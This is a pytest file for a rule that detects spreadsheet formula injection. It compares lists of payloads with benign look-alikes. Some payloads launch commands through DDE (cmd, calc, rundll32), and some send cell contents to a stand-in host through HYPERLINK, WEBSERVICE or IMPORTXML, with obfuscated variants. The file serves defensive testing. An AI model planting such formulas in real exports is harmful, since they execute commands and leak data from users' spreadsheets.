"""Formulas: what a spreadsheet would compute, and what only looks like it."""

from __future__ import annotations

import polars as pl
import pytest

from tests.batches import compiled

PAYLOADS = [
    "=1+1", "=A1", "=Sheet1!A1", "='my sheet'!B2*2", "=SUM(A1:A9)", "+SUM(A1:A9)", "-SUM(A1,2)", "@SUM(1+1)",
    "=sum(a1)", "=cmd|'/C calc'!A0", "=2+5+cmd|' /C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    "@SUM(1)*cmd|'/C x'!A0", "=   rundll32|'URL.dll,OpenURL x'!A", '=HYPERLINK("http://a.example?x="&A1,"here")',
    '=WEBSERVICE("http://a.example")', '+HYPERLINK("x")', '=IMPORTXML(CONCAT("http://a.example?v=", A1), "//a")',
    '=IMAGE("https://a.example/p.png")', '=DDE("server";"file";"item")', 'DDE ("cmd";"/C calc";"!A0")A0', '="a"&"b"',
    "=-1+2", "={1,2}", "=_xlfn.NEW(1)", "+A1+B2", "-A1*9", "@A1+A2", '"=1+1"', "\ufeff=1+1", "\t=1+1", "\r\n =1+1",
    "%0A=1+1", "\uff1d1+1", "\uff1dSUM(A1)", "\u00a0=1+1", "total,=cmd|'/C calc'!A0",
    'x;"=HYPERLINK("http://a.example")', "a\n=WEBSERVICE(1)", "a\t@cmd|'/c x'!A0",
]  # fmt: skip
BENIGN = [
    "", "-5", "-1,5 %", "+49 170 1234567", "+1 (555) 010-9999", "+1 for this", "-3.5e-7", "--help", "-v flag",
    "-Wall -O2", "@john hi", "@home delivery", "@media (max-width: 9px)", "@Override", "- a bullet", "+ added",
    "= is equal to", "=)", "=( sad", "==", "=====", "== Heading ==", "=> next", "-> arrow", "'=SUM(A1:A9)",
    "what is =SUM(A1:A9)?", "1+1", "A1", "SUM(A1:A9)", "cmd | more", "a | 'b' !c", "-- ", "---", "+++", "-10 to +10",
    "+-5", "a,-5,+3", "x\n- one\n- two", "-5 apples and 3 pears", "the DDE protocol", "= x", "@param name",
]  # fmt: skip


def rule():
    return compiled("no_formula", {}, field="v", fields={"v": "str"})


@pytest.mark.parametrize("text", PAYLOADS)
def test_what_a_spreadsheet_would_compute_fails_and_is_pointed_at(text):
    start, end = rule().judge(text).span
    assert text[start] in "=+-@\uff1dD"
    assert end > start


@pytest.mark.parametrize("text", BENIGN)
def test_what_it_would_show_passes(text):
    assert rule().judge(text) is None


def test_columns_mark_every_formula():
    marks = pl.DataFrame({"v": [*PAYLOADS, None]}).select(rule().suspects(pl.col("v"))).to_series().to_list()
    assert marks == [True] * len(PAYLOADS) + [None]
